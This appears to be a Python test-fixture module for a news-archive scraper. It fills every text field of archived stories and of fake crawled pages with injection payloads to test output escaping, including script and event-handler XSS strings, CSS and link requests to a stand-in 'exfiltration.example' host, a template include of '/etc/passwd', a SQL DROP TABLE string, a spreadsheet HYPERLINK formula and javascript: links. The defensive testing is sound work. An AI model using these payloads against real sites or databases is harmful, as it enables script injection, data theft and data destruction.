"""Stories that want to be more than text: written into an archive as they are, and crawled from a newsroom that prints them."""

import html
import os
import subprocess
import sys
from contextlib import closing
from dataclasses import replace
from pathlib import Path

from archive import evidence
from archive.record import Appearance, Attachment, DateMention, Image, InstitutionMention, PlaceMention, Quotation, Related
from tests.crawl.test_trouble import Liar
from tests.reading_room.newsroom import HOME, article, opened, reading, trouble

ROOT = Path(__file__).parents[2]

# What a newsroom, or whoever broke into it, may put where text belongs. Each that works calls alert or asks another host.
WEAPONS = {
    "script": "<script>alert(1)</script>",
    "closing": "</title></textarea></style></script><script>alert(1)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "style": "<style>@import 'http://exfiltration.example/x';*{background:url(http://exfiltration.example/y)}</style>",
    "link": '<link rel="prefetch" href="http://exfiltration.example/z"><meta http-equiv="refresh" content="0;url=http://exfiltration.example/">',
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
    "base": '<base href="http://exfiltration.example/"><form action="http://exfiltration.example/"><button autofocus>x</button></form>',
    "bidi": "Wali Kota \u202etixe \u2067baris \u200f",  # nothing ends what it begins
    "arabic": "Kaligrafi بسم الله",
    "sql": "Robert'); DROP TABLE articles;--",
    "formula": '=HYPERLINK("http://exfiltration.example/","klik")',
    "marks": "⟦<img src=x onerror=alert(1)>⟧",
    "long": "A" * 1_000_000,
}
LINKS = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", " \tjava\nscript:alert(1)")


def written(folder: Path) -> Path:
    """An archive in which every weapon stands wherever a story has text."""
    told = []
    for number, weapon in enumerate(WEAPONS.values(), 1):
        link = LINKS[number % len(LINKS)]
        told.append(
            article(
                number,
                f"{weapon} banjir",
                body=(f"Banjir {weapon} di kota.", weapon),
                section=weapon[:200],
                sections=(weapon[:200],),
                tags=(weapon[:200],),
                author=weapon[:200],
                byline=weapon[:200],
                dateline=weapon[:200],
                dateline_place=weapon[:200],
                captions=weapon[:5000],
                images=(Image(url=link, caption=weapon[:5000], alt=weapon[:200]),),
                attachments=(Attachment(url=link, label=weapon[:200]), Attachment(url=f"{HOME}{weapon[:200]}", label=None)),
                related=(Related(url=link, title=weapon[:200], printed_date=weapon[:200]),),
                translation_url=link,
                dates=(DateMention(text=weapon[:200], value="2020-01-23", kind="event", paragraph=0, start=7),),
                people=(
                    Appearance(
                        name=weapon[:200],
                        printed=weapon[:200],
                        honorifics=weapon[:200],
                        office=f"Camat {weapon[:200]}",
                        acting=weapon[:200],
                        institution=weapon[:200],
                        paragraph=0,
                        start=7,
                    ),
                ),
                quotes=(
                    Quotation(
                        text=weapon[:200],
                        speaker=weapon[:200],
                        speaker_printed=weapon[:200],
                        office=f"Camat {weapon[:200]}",
                        verb=weapon[:200],
                        paragraph=1,
                        start=0,
                    ),
                ),
                institutions=(InstitutionMention(name=weapon[:200], abbreviation=weapon[:200], paragraph=0, start=7),),
                places=(PlaceMention(code="99.01", name="Kota Sari", printed=weapon[:200], paragraph=0, start=7),),
            )
        )
    with opened(folder) as archive:
        archive.keep([reading(each) for each in told])
        archive.keep([reading(replace(told[0], title="Banjir surut", body=(WEAPONS["handler"],)), day=2)])  # a revision to look at
        for day in (3, 4):  # one that is gone
            archive.keep([trouble(told[1], "not-found", day, 404)])
            archive.vouch()
        archive.keep([trouble(told[2], WEAPONS["svg"], 3)])
        archive.end("finished", 0, notes=[WEAPONS["script"]])
    return folder / "archive.db"


def _page(number: int, weapon: str) -> bytes:
    """A page with a weapon as text, escaped as a careful theme does, and as markup, as a careless one or an intruder does."""
    said, link = html.escape(weapon), html.escape(LINKS[number % len(LINKS)])
    raw = "" if len(weapon) > 5000 or number == 2 else weapon  # what ends the title element ends the page for any reader
    return (
        f'<!DOCTYPE html><html lang="id"><head><meta charset="UTF-8"><title>{said} - Kota</title></head><body class="single postid-{number}">'
        f'<article class="post hentry"><h1 class="entry-title">{said} banjir</h1><span class="cat-links"><a href="/category/a/" rel="category tag">'
        f'{said[:200]}</a></span><span class="author vcard"><a rel="author" href="{link}">{said[:200]}</a></span><div class="entry-content">'
        f"<p>Klojen (malangkota.go.id) – Banjir {said[:5000]} surut, Kamis (23/1/2020).</p><p>{raw} Warga pulang.</p>"
        f"<p>“Kami siap {said[:200]},” kata Camat Klojen Budi Hartono. “{said[:200]},” kata Wali Kota Malang {said[:60]}.</p>"
        f'<p><img src="{link}" alt="{said[:200]}" onerror="alert(1)"><br>{said[:200]}</p><p><a href="{link}">{said[:200]}.pdf</a></p>'
        f'<p>Baca juga: <a href="{link}">{said[:200]}</a></p></div><a rel="tag" href="/tag/a/">{said[:200]}</a></article></body></html>'
    ).encode()


def crawled(folder: Path) -> Path:
    """The database of a crawl through a newsroom whose every page is hostile."""
    liar = Liar()
    paths = [f"/2020/01/24/kabar-{number}/" for number in range(1, len(WEAPONS) + 1)]
    for number, (path, weapon) in enumerate(zip(paths, WEAPONS.values(), strict=True), 1):
        liar.page(path, _page(number, weapon))
    liar.sitemap(*paths)
    try:
        for _ in range(2):
            done = kliping(folder, "crawl", "malangkota", "--home", liar.home)
            assert done.returncode == 0, done.stderr
            liar.page(paths[0], _page(1, WEAPONS["handler"]))  # the second time one has changed
            stamp = "<lastmod>2030-01-01</lastmod></url>"
            status, headers, body = liar.answers["/wp-sitemap.xml"]
            liar.answers["/wp-sitemap.xml"] = (status, headers, body.replace(b"</url>", stamp.encode(), 1))
    finally:
        liar.stop()
    return folder / "archive.db"


def kliping(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    """The command over an archive."""
    command = [sys.executable, "-m", "scraper.cli", *arguments]
    environment = {**os.environ, "KLIPING_DATA": str(folder), "NO_COLOR": "1"}
    return subprocess.run(command, cwd=ROOT, env=environment, capture_output=True, text=True, check=False)


def covers(database: Path, into: Path) -> list[Path]:
    """The cover page of the evidence for every article."""
    found = []
    with closing(evidence.opened(database.parent)) as conn:
        for (number,) in conn.execute("SELECT id FROM articles").fetchall():
            evidence.gather(conn, database.parent, number, into / str(number))
            found.append(into / str(number) / "index.html")
    return found
